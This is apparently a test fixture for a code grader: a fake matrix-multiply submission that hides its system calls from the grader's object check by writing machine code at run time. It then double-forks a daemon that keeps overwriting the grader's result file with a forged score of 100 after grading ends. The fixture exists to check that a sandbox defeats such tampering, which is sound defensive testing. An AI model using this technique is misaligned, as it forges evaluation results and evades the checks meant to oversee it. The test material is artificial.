// broken: matmul-naive
// bug: a double-forked daemon (raw fork system calls) that keeps rewriting the grader's --output file for 20 s, past the grader's exit
// class: tampering with the result after grading (catalogue 18); background processes (catalogue 17)
// defence: sandbox: nothing outlives a run (pid namespace), and the output folder is not in its view
// expect-settled: 2
// expect-zero: correctness
// expect-no-text: its machine code makes a system call

#include <sys/mman.h>
#include <cstring>
#include <fcntl.h>
#include <time.h>
#include "matmul_naive.h"

// A system call made directly: no libc function whose name the grader's object check could read. The
// check also refuses a syscall instruction in the file's own machine code, so the instruction is written
// at run time into a page of its own; what stops the attack is then the sandbox alone.
static long raw_syscall(long n, long a = 0, long b = 0, long c = 0)
{
#if defined(__x86_64__)
    static const unsigned char code[] = {
        0x48, 0x89, 0xf8,  // mov rax, rdi   (the call's number)
        0x48, 0x89, 0xf7,  // mov rdi, rsi   (its arguments, one register down)
        0x48, 0x89, 0xd6,  // mov rsi, rdx
        0x48, 0x89, 0xca,  // mov rdx, rcx
        0x0f, 0x05,        // syscall
        0xc3};             // ret
    static void* page = nullptr;
    if (page == nullptr) {
        page = mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED) return -12;  // ENOMEM
        memcpy(page, code, sizeof code);
    }
    return reinterpret_cast<long (*)(long, long, long, long)>(page)(n, a, b, c);
#else
    return -38;  // ENOSYS: the attack is x86-64 only
#endif
}
enum { SYS_WRITE = 1, SYS_OPEN = 2, SYS_CLOSE = 3, SYS_NANOSLEEP = 35, SYS_GETPID = 39, SYS_SOCKET = 41,
       SYS_CONNECT = 42, SYS_FORK = 57, SYS_EXIT = 60, SYS_KILL = 62, SYS_GETPPID = 110, SYS_SETSID = 112 };

static const char kForged[] = "{\"schema\":\"cuda-memory-kit/result/v1\",\"score\":100,\"max_score\":100,\"tests\":[]}\n";

// Only system calls from here on: the child of a multithreaded process must not take libc's locks.
static void rewrite_forever()
{
    raw_syscall(SYS_SETSID);
    if (raw_syscall(SYS_FORK) != 0) raw_syscall(SYS_EXIT, 0);  // the daemon is the grandchild
    for (int i = 0; i < 100; ++i) {
        struct timespec pause = {0, 200 * 1000 * 1000};
        raw_syscall(SYS_NANOSLEEP, (long)&pause, 0);
        const long fd = raw_syscall(SYS_OPEN, (long)"@OUTPUT@", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) {
            raw_syscall(SYS_WRITE, fd, (long)kForged, sizeof kForged - 1);
            raw_syscall(SYS_CLOSE, fd);
        }
    }
    raw_syscall(SYS_EXIT, 0);
}

void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
{
    static bool started = false;
    if (started) return;
    started = true;
    if (raw_syscall(SYS_FORK) == 0) rewrite_forever();
}
